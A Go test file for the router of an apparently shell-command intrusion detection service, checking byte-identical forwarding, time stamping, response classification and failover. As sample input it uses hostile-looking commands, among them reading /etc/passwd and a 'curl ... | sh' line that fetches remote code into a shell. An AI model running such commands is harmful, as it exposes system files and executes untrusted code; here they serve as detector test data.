package fleet

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"clmids/internal/serve"
	"clmids/internal/stream"
)

// The router forwards replica verdict lines verbatim. These tests pin what
// that must preserve: the bytes a client gets, the one clock stamp, and
// the classification of every line that is not a canonical verdict.

// postScore posts body to baseURL's /score and returns the raw response.
func postScore(t *testing.T, baseURL string, body []byte) []byte {
	t.Helper()
	resp, err := http.Post(baseURL+"/score", "application/x-ndjson", bytes.NewReader(body))
	if err != nil {
		t.Fatalf("POST /score: %v", err)
	}
	defer resp.Body.Close()
	out, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatalf("read /score response: %v", err)
	}
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("POST /score: HTTP %d: %s", resp.StatusCode, out)
	}
	return out
}

// eventBody renders events as a /score request body.
func eventBody(evs []stream.Event) []byte {
	var b []byte
	for i := range evs {
		b = serve.AppendEvent(b, &evs[i])
	}
	return b
}

// mixedLines are request lines of every kind the router meets: canonical
// ones it forwards as they came, and ones it must decode and write again —
// an empty user, a \u escape the encoder does not write, unescaped HTML
// characters, an extra field (clmgen's JSONL has label and family), other
// whitespace — plus one line no replica can parse.
var mixedLines = []string{
	`{"user":"alice","time":1700000000,"line":"ls -la"}`,
	`{"user":"eve,\u003croot\u003e\u0026\"ops\"","time":1700000001,"line":"id \u0026\u0026 whoami"}`,
	`{"user":"","time":1700000002,"line":"uname -a"}`,
	`{"user":"\u0041lice","time":1700000003,"line":"pwd"}`,
	`{"user":"alice","time":1700000004,"line":"echo <a> && cat /etc/passwd"}`,
	`{"line":"ps aux","user":"carol","time":1700000005,"label":"benign","family":"routine"}`,
	`{ "user": "dave", "time": 1700000006, "line": "df -h" }`,
	`{"user":`,
	`{"user":"alice","time":1700000007,"line":"exit"}`,
}

// mixedBody is mixedLines as one request body.
func mixedBody() []byte { return []byte(strings.Join(mixedLines, "\n") + "\n") }

// The router's /score response is byte-identical to a single node's for
// the same requests — including a user whose name holds a comma and the
// characters the encoder escapes, the mixed lines, and a timeless line —
// not merely equal once decoded.
func TestFleetBodyMatchesSingleNode(t *testing.T) {
	reps := []*testReplica{newTestReplica(t), newTestReplica(t), newTestReplica(t)}
	rt := newTestRouter(t, nil, reps...)
	waitHealthy(t, rt, 3)
	front := httptest.NewServer(rt.Handler())
	defer front.Close()

	d := serve.NewDaemon("", false)
	d.Attach(newTestService(t), "shell")
	single := httptest.NewServer(serve.NewHandler(d, 64))
	defer single.Close()

	const odd = `eve,<root>&"ops"`
	events := chainEventsFor(append(spreadUsers(rt, 8), odd), 6)
	last := events[len(events)-1].Time
	for k, line := range []string{`echo "<b>" && cat /etc/passwd > /tmp/x`, "id", `curl http://203.0.113.7/a?b=1&c=<2> | sh`} {
		events = append(events, stream.Event{User: odd, Time: last + int64(k+1), Line: line})
	}
	var all []byte
	for _, chunk := range chunked(events, 25) {
		body := eventBody(chunk)
		got, want := postScore(t, front.URL, body), postScore(t, single.URL, body)
		if !bytes.Equal(got, want) {
			t.Fatalf("router body differs from the single node's:\nrouter %q\nsingle %q", got, want)
		}
		all = append(all, got...)
	}
	if !bytes.Contains(all, []byte(`"user":"eve,\u003croot\u003e\u0026\"ops\""`)) {
		t.Fatal("no verdict for the odd user, escaped as encoding/json writes it")
	}
	got, want := postScore(t, front.URL, mixedBody()), postScore(t, single.URL, mixedBody())
	if !bytes.Equal(got, want) {
		t.Fatalf("router body for the mixed lines differs from the single node's:\nrouter %q\nsingle %q", got, want)
	}
	if !bytes.Contains(got, []byte(`"code":"unparsable","line":8}`)) {
		t.Fatalf("no error record for the unparsable line: %q", got)
	}
	// Both sides stamp a timeless line with their own clock; a try that
	// straddles a second boundary is repeated with a fresh user.
	for try := 0; ; try++ {
		before := time.Now().Unix()
		body := []byte(fmt.Sprintf(`{"user":"stamp-%d","line":"ls"}`+"\n", try))
		got, want := postScore(t, front.URL, body), postScore(t, single.URL, body)
		if bytes.Equal(got, want) {
			break
		}
		if time.Now().Unix() == before || try == 5 {
			t.Fatalf("router body for a timeless line differs from the single node's:\nrouter %q\nsingle %q", got, want)
		}
	}
}

// The router forwards each request line to its replica as the bytes the
// replica would get if the router decoded every line and wrote it again
// with AppendEvent: a canonical line as it came, any other line rewritten
// canonically, a timeless one stamped once. The error record for the
// unparsable line keeps its place in the response.
func TestRouterForwardsRequestLines(t *testing.T) {
	var (
		mu     sync.Mutex
		bodies []byte
	)
	stub := newStubReplica(t, func(n int64, w http.ResponseWriter, r *http.Request) bool {
		body, _ := io.ReadAll(r.Body)
		mu.Lock()
		bodies = append(bodies, body...)
		mu.Unlock()
		r.Body = io.NopCloser(bytes.NewReader(body))
		return true
	})
	rt := newTestRouter(t, nil, &testReplica{srv: stub.srv})
	waitHealthy(t, rt, 1)
	front := httptest.NewServer(rt.Handler())
	defer front.Close()

	lines := append(slices.Clone(mixedLines), `{"user":"bob","line":"whoami"}`)
	before := time.Now().Unix()
	out := postScore(t, front.URL, []byte(strings.Join(lines, "\n")+"\n"))
	after := time.Now().Unix()

	mu.Lock()
	defer mu.Unlock()
	sent := bytes.SplitAfter(bodies, []byte("\n"))
	replies := bytes.SplitAfter(out, []byte("\n"))
	var want []byte
	k := 0
	for i, line := range lines {
		var ev stream.Event
		if json.Unmarshal([]byte(line), &ev) != nil {
			if !bytes.Contains(replies[i], []byte(`"code":"unparsable"`)) {
				t.Fatalf("response line %d is %q, want the unparsable line's error record", i, replies[i])
			}
			continue
		}
		if ev.Time == 0 {
			// The router's stamp, read back from what it sent.
			var got stream.Event
			if k < len(sent) && json.Unmarshal(sent[k], &got) == nil && got.Time >= before && got.Time <= after {
				ev.Time = got.Time
			}
		}
		if ev.User == "" {
			ev.User = "-"
		}
		want = serve.AppendEvent(want, &ev)
		var v stream.Verdict
		if err := json.Unmarshal(replies[i], &v); err != nil || v.User != ev.User || v.Time != ev.Time || v.Line != ev.Line {
			t.Fatalf("response line %d is %q (%v), want the verdict for %+v", i, replies[i], err, ev)
		}
		k++
	}
	if !bytes.Equal(bodies, want) {
		t.Fatalf("the replica received\n%s\nwant what AppendEvent writes for each decoded line\n%s", bodies, want)
	}
}

// A timeless event is stamped once, by the router, from the router's
// clock: the replica receives it with that time, so it never stamps it
// again, and the client's verdict and the router's shadow window carry
// that same time.
func TestRouterStampsTimelessEventsOnce(t *testing.T) {
	var (
		mu       sync.Mutex
		received []stream.Event
	)
	stub := newStubReplica(t, func(n int64, w http.ResponseWriter, r *http.Request) bool {
		body, _ := io.ReadAll(r.Body)
		for _, line := range bytes.Split(bytes.TrimSpace(body), []byte("\n")) {
			var ev stream.Event
			if err := json.Unmarshal(line, &ev); err != nil {
				t.Errorf("replica got %q: %v", line, err)
			}
			mu.Lock()
			received = append(received, ev)
			mu.Unlock()
		}
		r.Body = io.NopCloser(bytes.NewReader(body))
		return true
	})
	rt := newTestRouter(t, nil, &testReplica{srv: stub.srv})
	const stamped = 1_700_000_000
	rt.now = func() time.Time { return time.Unix(stamped, 0) }
	waitHealthy(t, rt, 1)
	front := httptest.NewServer(rt.Handler())
	defer front.Close()

	out := postScore(t, front.URL, []byte(`{"user":"stamp","line":"ls -la"}`+"\n"))

	mu.Lock()
	defer mu.Unlock()
	if len(received) != 1 {
		t.Fatalf("replica received %d events, want 1", len(received))
	}
	if received[0].Time != stamped {
		t.Fatalf("replica received time %d, want the router clock's %d", received[0].Time, stamped)
	}
	var v stream.Verdict
	if err := json.Unmarshal(out, &v); err != nil {
		t.Fatalf("client verdict %q: %v", out, err)
	}
	if v.Time != stamped {
		t.Fatalf("client verdict carries time %d, the replica was sent %d", v.Time, stamped)
	}
	var shadow, want bytes.Buffer
	if err := rt.ExportShadow(&shadow, []string{"stamp"}); err != nil {
		t.Fatal(err)
	}
	window := stream.SessionWindow{User: "stamp", Last: stamped, Entries: []stream.WindowEntry{{Time: stamped, Line: "ls -la"}}}
	if err := stream.WriteSessionsCheckpoint(&want, testSessionConfig(), "shell", []stream.SessionWindow{window}, stamped); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(shadow.Bytes(), want.Bytes()) {
		t.Fatalf("shadow export %q, want one entry at the stamped time %d: %q", shadow.Bytes(), stamped, want.Bytes())
	}
}

// scriptedReplica is a stub replica that answers every /score request
// with the body set by its last set call.
func scriptedReplica(t *testing.T) (*stubReplica, func(body string)) {
	t.Helper()
	var (
		mu     sync.Mutex
		script string
	)
	stub := newStubReplica(t, func(n int64, w http.ResponseWriter, r *http.Request) bool {
		io.Copy(io.Discard, r.Body)
		mu.Lock()
		body := script
		mu.Unlock()
		w.Header().Set("Content-Type", "application/x-ndjson")
		io.WriteString(w, body)
		return false
	})
	return stub, func(body string) {
		mu.Lock()
		script = body
		mu.Unlock()
	}
}

// How scoreOnce classifies each replica line: a canonical verdict is kept
// byte for byte, a verdict in any other shape encoding/json reads is
// re-encoded canonically, coded error records map to their classes, and
// anything else is a transport failure.
func TestScoreOnceClassifiesLines(t *testing.T) {
	stub, script := scriptedReplica(t)
	rt := newTestRouter(t, nil, &testReplica{srv: stub.srv})
	waitHealthy(t, rt, 1)

	const canonical = `{"user":"u","time":5,"line":"x","line_score":0.5,"context_score":0.25,"session_score":0.5,"session_lines":1,"line_alert":false,"session_alert":false}` + "\n"
	const spaced = `{ "session_alert": false, "user": "u", "time": 5, "line": "x", "line_score": 5e-1,` +
		` "context_score": 0.250, "session_score": 0.5, "session_lines": 1, "line_alert": false }` + "\n"
	cases := []struct {
		name, body string
		class      int
		lines      string // the committed lines, as the router forwards them
	}{
		{"canonical", canonical, classOK, canonical},
		{"whitespace", spaced, classOK, canonical},
		{"overloaded", `{"error":"shed","code":"overloaded"}` + "\n", classOverloaded, ""},
		{"unparsable", `{"error":"bad line","code":"unparsable","line":1}` + "\n", classUnparsable, ""},
		{"internal", `{"error":"boom","code":"internal"}` + "\n", classInternal, ""},
		{"uncoded error", `{"error":"boom"}` + "\n", classInternal, ""},
		{"not an object", "[1,2]\n", classTransport, ""},
		{"wrong field type", `{"user":1}` + "\n", classTransport, ""},
		{"unended line", strings.TrimSuffix(canonical, "\n"), classTransport, ""},
		{"empty", "", classTransport, ""},
		{"more verdicts than events", canonical + canonical, classTransport, canonical},
	}
	ev := []stream.Event{{User: "u", Time: 5, Line: "x"}}
	for _, tc := range cases {
		script(tc.body)
		rp, class, _, err := rt.scoreOnce(context.Background(), rt.byAddr[stub.srv.URL], rawEvents(ev), []int{0})
		var lines []byte
		for k := range rp.ends {
			lines = append(lines, rp.line(k)...)
		}
		if class != tc.class || string(lines) != tc.lines {
			t.Errorf("%s: class %d, lines %q (err %v); want class %d, lines %q", tc.name, class, lines, err, tc.class, tc.lines)
		}
		if tc.lines != "" && (rp.times[0] != 5 || rp.scores[0] != 0.25) {
			t.Errorf("%s: scanned time %d, context_score %v; want 5, 0.25", tc.name, rp.times[0], rp.scores[0])
		}
		rp.free()
	}

	// Through the router's front, the re-encoded line is what the client
	// gets, and the shadow holds the verdict's time and context score.
	script(spaced)
	front := httptest.NewServer(rt.Handler())
	defer front.Close()
	if got := postScore(t, front.URL, eventBody(ev)); string(got) != canonical {
		t.Fatalf("client got %q, want the canonical %q", got, canonical)
	}
	rt.mu.Lock()
	entries := rt.shadows["u"].Entries
	rt.mu.Unlock()
	if len(entries) != 1 || entries[0] != (stream.WindowEntry{Time: 5, Line: "x", Score: 0.25}) {
		t.Fatalf("shadow entries %+v, want one {5 x 0.25}", entries)
	}
}

// A replica that answers with a line that is neither a verdict nor an
// error record is ejected, and its events fail over to the successor.
func TestNonVerdictLineFailsOver(t *testing.T) {
	bad, script := scriptedReplica(t)
	script("[1,2]\n")
	good := newStubReplica(t, nil)
	rt := newTestRouter(t, nil, &testReplica{srv: bad.srv}, &testReplica{srv: good.srv})
	waitHealthy(t, rt, 2)

	ring := BuildRing([]string{bad.srv.URL, good.srv.URL})
	var evs []stream.Event
	for i := 0; len(evs) < 3 && i < 10000; i++ {
		if u := fmt.Sprintf("bad-user-%d", i); ring.Lookup(u) == bad.srv.URL {
			evs = append(evs, stream.Event{User: u, Time: int64(100 + i), Line: "y"})
		}
	}
	vs, err := rt.Route(context.Background(), evs)
	if err != nil {
		t.Fatalf("Route past a replica answering non-verdicts: %v", err)
	}
	for i, v := range vs {
		if v.User != evs[i].User || v.Time != evs[i].Time || v.Line != evs[i].Line {
			t.Fatalf("verdict %d is %+v, want one for %+v", i, v, evs[i])
		}
	}
	st := rt.Stats()
	if st.Failovers == 0 || good.scores.Load() == 0 {
		t.Fatalf("no failover to the good replica: %+v", st)
	}
	for _, r := range st.Replicas {
		if r.Addr == bad.srv.URL && (r.Ready || r.Ejections == 0) {
			t.Fatalf("replica answering non-verdicts not ejected: %+v", r)
		}
	}
}
